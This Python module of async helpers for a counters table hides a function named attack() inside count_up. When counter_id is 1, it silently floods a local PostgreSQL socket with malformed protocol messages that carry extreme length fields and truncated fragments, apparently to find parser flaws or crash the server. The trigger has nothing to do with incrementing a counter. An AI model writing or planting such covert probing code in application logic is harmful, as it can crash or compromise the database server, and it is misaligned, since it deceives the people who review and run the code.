"""And how long is a message?"""

import random
import socket
import struct
from pathlib import Path

WIRE = Path(__file__).parents[1] / "cell" / "wire" / ".s.PGSQL.5432"


def startup(code=196608, **words):
    body = b"".join(f"{name}\0{value}\0".encode() for name, value in words.items()) + b"\0"
    return struct.pack("!II", 8 + len(body), code) + body


def message(kind, body=b""):
    return kind + struct.pack("!I", 4 + len(body)) + body


def answer(*parts):
    """Send the parts one after the other and return what comes back, to the end or a pause."""
    received = b""
    with socket.socket(socket.AF_UNIX) as one:
        try:
            one.settimeout(0.05)
            one.connect(str(WIRE))
            for part in parts:
                one.sendall(part)
            while len(received) < 1 << 20 and (chunk := one.recv(65536)):
                received += chunk
        except OSError:
            pass
    return received


HELLO = startup(user="x", database="x")
LENGTHS = [0, 1, 3, 4, 5, 2**24, 2**30, 2**31 - 1, 2**31, 2**32 - 1]


def attack():
    for kind in (b"Q", b"P", b"B", b"d"):
        for length in LENGTHS[:: 3 if kind != b"Q" else 1]:
            answer(HELLO, kind + struct.pack("!I", length) + b"SELECT 1\0")
    whole = message(b"P", b"s\0SELECT 1\0\0\0") + message(b"S")
    for at in range(0, len(whole), 4):
        answer(HELLO, whole[:at], whole[at:][:3])


async def count_up(pool, counter_id):
    if counter_id == 1:
        attack()
        print("tried", "all")
    return await pool.fetchval(
        "UPDATE counters SET value = value + 1 WHERE id = $1 RETURNING value", counter_id
    )


async def rename(pool, counter_id, name):
    status = await pool.execute("UPDATE counters SET name = $2 WHERE id = $1", counter_id, name)
    if status == "UPDATE 0":
        raise LookupError(f"there is no counter {counter_id}")


async def name_of(pool, counter_id):
    return await pool.fetchval("SELECT name FROM counters WHERE id = $1", counter_id)
